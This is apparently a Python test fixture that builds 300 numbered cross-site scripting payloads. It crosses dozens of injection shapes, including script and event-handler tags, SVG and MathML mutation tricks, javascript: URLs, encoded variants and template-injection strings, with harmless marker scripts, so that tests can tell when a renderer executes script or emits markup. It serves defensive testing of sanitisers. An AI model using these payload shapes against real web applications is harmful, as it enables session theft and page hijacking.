"""Three hundred texts that have been used to have a browser run a script or make markup, each with its own number.

Whatever runs calls ``ran.push``, and whatever becomes markup has the tag or the class ``x-made``.
"""

from collections.abc import Iterator
from typing import Final

SCRIPTS: Final = (
    "ran.push(N)",
    "window.ran.push`N`",
    "top['ran']['push'](N)",
    "(0,eval)('ran.push(N)')",
    "Function('ran.push(N)')()",
    "import('data:text/javascript,ran.push(N)')",
)
"""How each of SHAPES says it, by turns."""

SHAPES: Final = (
    "<script class=x-made>JS</script>",
    "<x-made>N</x-made><script>JS</script>",
    '"><script class=x-made>JS</script>',
    "'><script class=x-made>JS</script>",
    "</pre></code></textarea></title></style><script class=x-made>JS</script>",
    "</script><script class=x-made>JS</script>",
    "<!--><script class=x-made>JS</script>-->",
    "<![CDATA[<script class=x-made>JS</script>]]>",
    "<img class=x-made src=x onerror=JS>",
    '<img class=x-made src=/page/x onerror="JS" onload="JS">',
    '"><img class=x-made src=x onerror=JS>',
    "' onmouseover='JS' class='x-made",
    '" autofocus onfocus="JS" class="x-made',
    "` onfocus=JS autofocus class=x-made `",
    "<svg class=x-made onload=JS>",
    "<svg class=x-made><script>JS</script></svg>",
    "<svg class=x-made><animate onbegin=JS attributeName=x dur=1s>",
    '<svg class=x-made><a href="javascript:JS"><text y=9>N</text></a></svg>',
    "<math class=x-made><mtext><table><mglyph><style><img src=x onerror=JS>",
    '<noscript><p class=x-made title="</noscript><img src=x onerror=JS>">',
    "<form class=x-made><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>",
    '<iframe class=x-made srcdoc="<script>parent.JS</script>"></iframe>',
    '<iframe class=x-made src="javascript:parent.JS"></iframe>',
    '<object class=x-made data="data:text/html,<script>parent.JS</script>"></object>',
    '<embed class=x-made src="data:image/svg+xml,<svg onload=JS>">',
    '<a class=x-made href="javascript:JS">N</a>',
    "[N](javascript:JS)",
    '![N](x" onerror="JS)',
    "<javascript:JS>",
    "javascript:JS",
    "JaVaScRiPt\t:JS",
    "data:text/html,<script>parent.JS</script>",
    "<style class=x-made>*{background:url('javascript:JS')}</style>",
    "<link class=x-made rel=stylesheet href=//127.0.0.1:9/N.css>",
    "<link class=x-made rel=prefetch href=/agents?N>",
    '<meta class=x-made http-equiv=refresh content="0;url=javascript:JS">',
    "<base class=x-made href=//127.0.0.1:9/>",
    '<form class=x-made action="javascript:JS"><input type=submit autofocus></form>',
    "<body class=x-made onload=JS onpageshow=JS>",
    "<details class=x-made open ontoggle=JS>",
    "<video class=x-made><source onerror=JS></video>",
    "<audio class=x-made src=x onerror=JS>",
    "<input class=x-made autofocus onfocus=JS>",
    "<marquee class=x-made onstart=JS>",
    "<template class=x-made><script>JS</script></template>",
    '<p class=x-made style="animation:x" onanimationstart=JS>',
    "&lt;script class=x-made&gt;JS&lt;/script&gt;",
    "&#60;img class=x-made src=x onerror=JS&#62;",
    "\\u003cscript class=x-made\\u003eJS\\u003c/script\\u003e",
    "%3Cscript class=x-made%3EJS%3C/script%3E",
    "\uff1cscript class=x-made\uff1eJS\uff1c/script\uff1e",
    "+ADw-script class=x-made+AD4-JS+ADw-/script+AD4-",
    "${JS}",
    "{{constructor.constructor('JS')()}}",
    "#{JS}<%= JS %>",
    "</x-made><x-made onclick=JS>",
    "__proto__",
    "constructor",
    "<div id=needs class=x-made>0</div><a id=session class=x-made href=x>",
    "<scr\0ipt class=x-made>JS</scr\0ipt>",
    "\x1b]8;;javascript:JS\x07N\x1b]8;;\x07",
    "\u202e<x-made>N</x-made>\u2066",
    "\ufeff\u200b<x-made onfocus=JS>\u2028JS\u2029",
    '#/run/../../page/token"><x-made>',
    "');JS;('",
    '";JS;//',
    '\n\nevent: message\ndata: {"text":"<x-made>"}\n\n',
)


def payloads(count: int = 300) -> Iterator[str]:
    """The shapes by turns, each with another script, until there are ``count``."""
    for number in range(count):
        shape = SHAPES[number % len(SHAPES)]
        script = SCRIPTS[(number // len(SHAPES) + number) % len(SCRIPTS)]
        yield shape.replace("JS", script).replace("N", str(number))
